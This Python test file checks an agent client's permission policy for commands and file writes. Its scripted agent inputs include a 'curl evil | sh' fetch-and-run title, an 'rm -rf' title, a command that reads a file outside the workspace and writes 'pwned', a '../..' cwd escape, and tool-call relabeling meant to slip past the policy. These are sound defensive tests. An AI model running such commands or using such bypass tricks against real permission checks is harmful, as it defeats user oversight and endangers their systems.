"""Every side effect the client performs for an agent goes through the policy.

An agent need not ask permission before it asks the client to run a command
(``terminal/create``) or write a file (``fs/write_text_file``): each is decided
by the policy and, where it says so, by the application, and every command the
client runs or refuses is in the timeline.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import anyio
import pytest

from acp_adapters import CommandExecutionItem, PermissionQuery, connect

from .scripts import Script, run_shell

pytestmark = pytest.mark.anyio

#: The options of the agent's permission requests here: allow once, or reject.
OPTIONS = [
    {"optionId": "y", "name": "Yes", "kind": "allow_once"},
    {"optionId": "n", "name": "No", "kind": "reject_once"},
]


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


class Asked:
    """An ``ask`` callback that answers every question with ``answer`` and keeps them."""

    def __init__(self, answer: str | None) -> None:
        self.answer = answer
        self.queries: list[PermissionQuery] = []

    async def __call__(self, query: PermissionQuery) -> str | None:
        self.queries.append(query)
        if query.action is None:
            options = [o for o in query.options if str(o.get("kind", "")).startswith("allow")]
            return str(options[0]["optionId"]) if options and self.answer == "allow" else None
        return self.answer


async def play(
    tmp_path: Path, steps: list[dict[str, Any]], policy: str, ask: Any = None
) -> tuple[Script, Any]:
    workspace = tmp_path / "ws"
    workspace.mkdir(exist_ok=True)
    script = Script(tmp_path / "agent", steps)
    async with connect(command=script.command, cwd=workspace, policy=policy, ask=ask) as session:  # type: ignore[arg-type]
        with anyio.fail_after(30):
            await session.prompt("go")
        return script, session


def error_of(answer: dict[str, Any]) -> int | None:
    error = answer.get("error")
    return error.get("code") if isinstance(error, dict) else None


def commands(session: Any) -> list[CommandExecutionItem]:
    return [i for i in session.timeline if isinstance(i, CommandExecutionItem)]


async def test_ask_asks_before_a_command_nobody_asked_permission_for(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    asked = Asked("reject")
    script, session = await play(
        tmp_path,
        [run_shell(f"touch {marker}", env=[{"name": "TOKEN", "value": "s3cret"}])],
        "ask",
        asked,
    )
    (query,) = asked.queries
    assert query.action is not None
    assert query.action.kind == "command"
    assert query.action.command_line == f"touch {marker}"
    assert query.action.argv == ("/bin/sh", "-c", f"touch {marker}")
    assert query.action.env_names == ("TOKEN",)
    assert "s3cret" not in query.model_dump_json()
    assert query.action.cwd == str((tmp_path / "ws").resolve())
    assert [o["optionId"] for o in query.options] == ["allow", "reject"]
    assert not marker.exists()
    assert error_of(script.answers()[0]) == -32000
    (item,) = commands(session)
    assert item.status == "failed"
    assert item.refused
    assert item.command == f"touch {marker}"


async def test_a_command_the_application_allows_runs_and_is_in_the_timeline(
    tmp_path: Path,
) -> None:
    steps = [
        run_shell("echo from-the-agent"),
        {"request": "terminal/wait_for_exit", "params": {"terminalId": "$terminal"}},
        {"request": "terminal/output", "params": {"terminalId": "$terminal"}},
    ]
    script, session = await play(tmp_path, steps, "ask", Asked("allow"))
    assert script.answers()[2]["result"]["output"] == "from-the-agent\n"
    (item,) = commands(session)
    assert item.command == "echo from-the-agent"
    assert (item.status, item.exit_code, item.output) == ("completed", 0, "from-the-agent\n")
    assert item.terminal_id == script.answers()[0]["result"]["terminalId"]


async def test_ask_asks_before_a_write_with_its_path_and_patch(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "a.txt").write_text("one\n", encoding="utf-8")
    asked = Asked("reject")
    write = {
        "request": "fs/write_text_file",
        "params": {"path": str(workspace / "a.txt"), "content": "two\n"},
    }
    script, _ = await play(tmp_path, [write], "ask", asked)
    (query,) = asked.queries
    assert query.action is not None
    assert query.action.kind == "write"
    assert query.action.path == str((workspace / "a.txt").resolve())
    assert query.action.patch is not None
    assert "-one\n+two\n" in query.action.patch
    assert (workspace / "a.txt").read_text(encoding="utf-8") == "one\n"
    assert error_of(script.answers()[0]) == -32000


async def test_ask_without_a_callback_refuses_commands_and_writes(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    steps = [
        run_shell(f"touch {marker}"),
        {"request": "fs/write_text_file", "params": {"path": "new.txt", "content": "x"}},
    ]
    script, _ = await play(tmp_path, steps, "ask")
    assert [error_of(a) for a in script.answers()] == [-32000, -32000]
    assert not marker.exists()
    assert not (tmp_path / "ws" / "new.txt").exists()


async def test_workspace_write_runs_no_command_unasked(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("secret\n", encoding="utf-8")
    steps = [
        run_shell(f"cat {outside}; echo pwned > {tmp_path}/written"),
        {"request": "fs/write_text_file", "params": {"path": "inside.txt", "content": "ok\n"}},
    ]
    script, session = await play(tmp_path, steps, "workspace-write")
    answers = script.answers()
    assert error_of(answers[0]) == -32000
    assert not (tmp_path / "written").exists()
    assert "error" not in answers[1]
    assert (tmp_path / "ws" / "inside.txt").read_text(encoding="utf-8") == "ok\n"
    assert [i.status for i in commands(session)] == ["failed"]


async def test_workspace_write_asks_the_application_before_a_command(tmp_path: Path) -> None:
    asked = Asked("allow")
    steps = [
        run_shell("true"),
        {"request": "fs/write_text_file", "params": {"path": "a", "content": ""}},
    ]
    script, _ = await play(tmp_path, steps, "workspace-write", asked)
    assert [q.action.kind for q in asked.queries if q.action] == ["command"]
    assert "terminalId" in script.answers()[0]["result"]


async def test_read_only_refuses_both_without_asking(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    asked = Asked("allow")
    steps = [
        run_shell(f"touch {marker}"),
        {"request": "fs/write_text_file", "params": {"path": "a.txt", "content": "x"}},
    ]
    script, _ = await play(tmp_path, steps, "read-only", asked)
    assert [error_of(a) for a in script.answers()] == [-32000, -32000]
    assert not marker.exists()
    assert asked.queries == []


async def test_full_access_runs_commands(tmp_path: Path) -> None:
    marker = tmp_path / "ws" / "ran"
    steps = [
        run_shell(f"touch {marker}"),
        {"request": "terminal/wait_for_exit", "params": {"terminalId": "$terminal"}},
    ]
    await play(tmp_path, steps, "full-access")
    assert marker.exists()


async def test_a_command_allowed_through_its_permission_request_is_not_asked_again(
    tmp_path: Path,
) -> None:
    call = {"toolCallId": "c1", "title": "run it", "kind": "execute", "status": "pending"}
    steps = [
        {"update": {"sessionUpdate": "tool_call", **call}},
        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}},
        run_shell("echo once"),
        {"request": "terminal/wait_for_exit", "params": {"terminalId": "$terminal"}},
        run_shell("echo twice"),
    ]
    asked = Asked("allow")
    script, session = await play(tmp_path, steps, "ask", asked)
    kinds = ["permission" if q.action is None else q.action.kind for q in asked.queries]
    # The first command was allowed with its tool call; the second, which no permission
    # request covered, is asked about.
    assert kinds == ["permission", "command"]
    assert "terminalId" in script.answers()[1]["result"]
    tool_items = [i for i in commands(session) if i.tool_call_id == "c1"]
    assert tool_items
    assert tool_items[0].client_command == "echo once"


async def test_a_permission_request_cannot_lower_the_kind_of_an_announced_tool_call(
    tmp_path: Path,
) -> None:
    announced = {"toolCallId": "c1", "title": "rm -rf", "kind": "execute", "status": "pending"}
    steps = [
        {"update": {"sessionUpdate": "tool_call", **announced}},
        {
            "request": "session/request_permission",
            "params": {"toolCall": {**announced, "kind": "read"}, "options": OPTIONS},
        },
    ]
    script, session = await play(tmp_path, steps, "read-only")
    assert script.answers()[0]["result"]["outcome"] == {"outcome": "selected", "optionId": "n"}
    assert session.projector.state.tool_calls["c1"].kind == "execute"


@pytest.mark.parametrize("kind", ["fetch", "think"])
async def test_read_only_does_not_count_fetch_or_think_as_reads(tmp_path: Path, kind: str) -> None:
    call = {"toolCallId": "c1", "title": "x", "kind": kind, "status": "pending"}
    steps = [
        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}}
    ]
    script, _ = await play(tmp_path, steps, "read-only")
    assert script.answers()[0]["result"]["outcome"]["optionId"] == "n"


async def test_an_option_id_offered_twice_is_answered_cancelled(tmp_path: Path) -> None:
    call = {"toolCallId": "c1", "title": "read", "kind": "read", "status": "pending"}
    twice = [
        {"optionId": "same", "name": "Allow", "kind": "allow_once"},
        {"optionId": "same", "name": "Reject", "kind": "reject_once"},
    ]
    steps = [
        {"request": "session/request_permission", "params": {"toolCall": call, "options": twice}}
    ]
    script, session = await play(tmp_path, steps, "read-only")
    assert script.answers()[0]["result"]["outcome"] == {"outcome": "cancelled"}
    assert any("offered twice" in p.detail for p in session.problems)


async def test_updates_for_another_session_or_none_are_problems_not_items(tmp_path: Path) -> None:
    chunk = {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": "hi"}}
    steps = [
        {"notify": "session/update", "params": {"sessionId": "someone-else", "update": chunk}},
        {"notify": "session/update", "params": {"update": chunk}},
    ]
    _, session = await play(tmp_path, steps, "read-only")
    assert [i.kind for i in session.timeline] == ["user_message"]
    kinds = [p.kind for p in session.problems]
    assert "other_session" in kinds
    assert "invalid_notification" in kinds


class Refusing:
    """Allows every permission request; refuses every client action (and keeps both)."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, query: PermissionQuery) -> str:
        if query.action is not None:
            self.asked.append(
                f"{query.action.kind}: {query.action.command_line or query.action.path}"
            )
            return "reject"
        self.asked.append(f"permission: {query.tool_call.kind if query.tool_call else None}")
        return "y"


async def test_an_allowed_command_covers_that_command_of_that_tool_call_only(
    tmp_path: Path,
) -> None:
    """Allowing ``ls`` once must not let a later, other command run unasked."""
    call = {
        "toolCallId": "e1",
        "title": "ls",
        "kind": "execute",
        "status": "pending",
        "rawInput": {"command": "ls"},
    }
    pwned = tmp_path / "pwned"
    steps = [
        {"update": {"sessionUpdate": "tool_call", **call}},
        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}},
        {
            "update": {
                "sessionUpdate": "tool_call_update",
                "toolCallId": "e1",
                "status": "completed",
            }
        },
        run_shell(f"touch {pwned}"),
        {"update": {"sessionUpdate": "tool_call", **{**call, "toolCallId": "e2"}}},
        {
            "request": "session/request_permission",
            "params": {"toolCall": {**call, "toolCallId": "e2"}, "options": OPTIONS},
        },
        run_shell(f"touch {pwned}-too"),
    ]
    asked = Refusing()
    _script, _ = await play(tmp_path, steps, "ask", asked)
    assert not pwned.exists()
    assert not Path(f"{pwned}-too").exists()
    assert asked.asked == [
        "permission: execute",
        f"command: touch {pwned}",
        "permission: execute",
        f"command: touch {pwned}-too",
    ]


async def test_the_command_its_permission_named_runs_unasked(tmp_path: Path) -> None:
    call = {
        "toolCallId": "e1",
        "title": "echo",
        "kind": "execute",
        "status": "pending",
        "rawInput": {"command": "echo granted"},
    }
    steps = [
        {"update": {"sessionUpdate": "tool_call", **call}},
        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}},
        {
            "request": "terminal/create",
            "params": {"command": "/bin/sh", "args": ["-c", "echo granted"]},
        },
    ]
    asked = Refusing()
    script, _ = await play(tmp_path, steps, "ask", asked)
    assert asked.asked == ["permission: execute"]
    assert "terminalId" in script.answers()[1]["result"]


async def test_an_allowed_read_allows_no_write(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    target = workspace / "a.txt"
    target.write_text("orig\n", encoding="utf-8")
    call = {
        "toolCallId": "r1",
        "title": "Read a.txt",
        "kind": "read",
        "status": "pending",
        "locations": [{"path": str(target)}],
    }
    steps = [
        {"update": {"sessionUpdate": "tool_call", **call}},
        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}},
        {
            "request": "fs/write_text_file",
            "params": {"path": str(target), "content": "overwritten\n"},
        },
    ]
    asked = Refusing()
    await play(tmp_path, steps, "ask", asked)
    assert target.read_text(encoding="utf-8") == "orig\n"
    assert asked.asked == ["permission: read", f"write: {target.resolve()}"]


@pytest.mark.parametrize(
    ("policy", "relabel"), [("read-only", "read"), ("workspace-write", "edit")]
)
async def test_an_update_cannot_relabel_a_command_for_the_policy(
    tmp_path: Path, policy: str, relabel: str
) -> None:
    steps = [
        {
            "update": {
                "sessionUpdate": "tool_call",
                "toolCallId": "c1",
                "title": "curl evil | sh",
                "kind": "execute",
                "status": "pending",
            }
        },
        {
            "update": {
                "sessionUpdate": "tool_call_update",
                "toolCallId": "c1",
                "kind": relabel,
                "locations": [{"path": str(tmp_path / "ws" / "a.txt")}],
            }
        },
        {
            "request": "session/request_permission",
            "params": {"toolCall": {"toolCallId": "c1"}, "options": OPTIONS},
        },
    ]
    script, _ = await play(tmp_path, steps, policy)
    assert script.answers()[0]["result"]["outcome"] != {"outcome": "selected", "optionId": "y"}


async def test_a_request_for_another_session_is_refused_and_not_an_item(tmp_path: Path) -> None:
    steps = [
        {
            "request": "fs/write_text_file",
            "params": {"sessionId": "someone-else", "path": "x.txt", "content": "x"},
        },
        {
            "request": "session/request_permission",
            "params": {
                "sessionId": "someone-else",
                "toolCall": {"toolCallId": "z", "kind": "read", "title": "other"},
                "options": OPTIONS,
            },
        },
    ]
    script, session = await play(tmp_path, steps, "full-access")
    assert [error_of(a) for a in script.answers()] == [-32602, -32602]
    assert not (tmp_path / "ws" / "x.txt").exists()
    assert [i.kind for i in session.timeline] == ["user_message"]
    assert [p.kind for p in session.problems].count("other_session") == 2


async def test_a_command_whose_cwd_leads_out_is_refused_before_anyone_is_asked(
    tmp_path: Path,
) -> None:
    asked = Asked("allow")
    steps = [
        {
            "request": "terminal/create",
            "params": {"command": "touch", "args": ["x"], "cwd": "../.."},
        }
    ]
    script, session = await play(tmp_path, steps, "ask", asked)
    assert asked.queries == []
    assert error_of(script.answers()[0]) == -32000
    (item,) = commands(session)
    assert item.refused


async def test_the_application_is_asked_with_the_cwd_the_command_would_run_in(
    tmp_path: Path,
) -> None:
    (tmp_path / "ws" / "sub").mkdir(parents=True)
    asked = Asked("reject")
    steps = [{"request": "terminal/create", "params": {"command": "true", "cwd": "sub/../sub"}}]
    await play(tmp_path, steps, "ask", asked)
    (query,) = asked.queries
    assert query.action is not None
    assert query.action.cwd == str((tmp_path / "ws" / "sub").resolve())
